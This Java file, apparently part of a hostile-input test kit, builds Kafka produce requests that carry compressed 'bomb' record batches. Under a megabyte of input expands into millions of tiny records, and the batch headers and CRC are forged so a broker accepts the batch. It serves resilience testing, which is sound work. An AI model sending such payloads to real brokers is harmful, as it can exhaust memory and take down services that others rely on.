package io.weir.testkit.hostile;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.util.List;
import org.apache.kafka.common.compress.Compression;
import org.apache.kafka.common.message.ProduceRequestData;
import org.apache.kafka.common.record.internal.CompressionType;
import org.apache.kafka.common.record.internal.MemoryRecords;
import org.apache.kafka.common.record.internal.RecordBatch;
import org.apache.kafka.common.requests.ProduceRequest;
import org.apache.kafka.common.utils.ByteBufferOutputStream;
import org.apache.kafka.common.utils.Crc32C;

/** Produce requests of less than a megabyte that become far more. */
final class Bombs {
    /** Length, attributes, timestamp, offset, no key, no value, no headers. */
    private static final byte[] TINY = {12, 0, 0, 0, 1, 1, 0};

    private static final int AT_ONCE = 100_000;
    private static final short VERSION = 12;

    private Bombs() {}

    /** A batch of so many records of seven bytes: a gigabyte of objects for each ten million. */
    static ProduceRequest produce(String topic, CompressionType codec, int millions) throws IOException {
        ProduceRequestData data = new ProduceRequestData().setAcks((short) -1).setTimeoutMs(60_000);
        data.topicData()
                .add(new ProduceRequestData.TopicProduceData()
                        .setName(topic)
                        .setPartitionData(List.of(new ProduceRequestData.PartitionProduceData()
                                .setRecords(MemoryRecords.readableRecords(batch(codec, millions * 1_000_000))))));
        return new ProduceRequest(data, VERSION);
    }

    private static ByteBuffer batch(CompressionType codec, int count) throws IOException {
        byte[] many = new byte[AT_ONCE * TINY.length];
        for (int i = 0; i < AT_ONCE; i++) {
            System.arraycopy(TINY, 0, many, i * TINY.length, TINY.length);
        }
        ByteBufferOutputStream bytes = new ByteBufferOutputStream(1 << 16);
        bytes.write(new byte[61]);
        try (OutputStream out = Compression.of(codec).build().wrapForOutput(bytes, RecordBatch.MAGIC_VALUE_V2)) {
            for (int i = 0; i < count / AT_ONCE; i++) {
                out.write(many);
            }
        }
        ByteBuffer batch = bytes.buffer().flip();
        batch.putInt(8, batch.limit() - 12);
        batch.put(16, RecordBatch.MAGIC_VALUE_V2);
        batch.putShort(21, (short) codec.id);
        batch.putInt(23, count - 1);
        batch.putLong(27, 1);
        batch.putLong(35, 1);
        batch.putLong(43, RecordBatch.NO_PRODUCER_ID);
        batch.putShort(51, RecordBatch.NO_PRODUCER_EPOCH);
        batch.putInt(53, RecordBatch.NO_SEQUENCE);
        batch.putInt(57, count);
        return batch.putInt(17, (int) Crc32C.compute(batch, 21, batch.limit() - 21));
    }
}
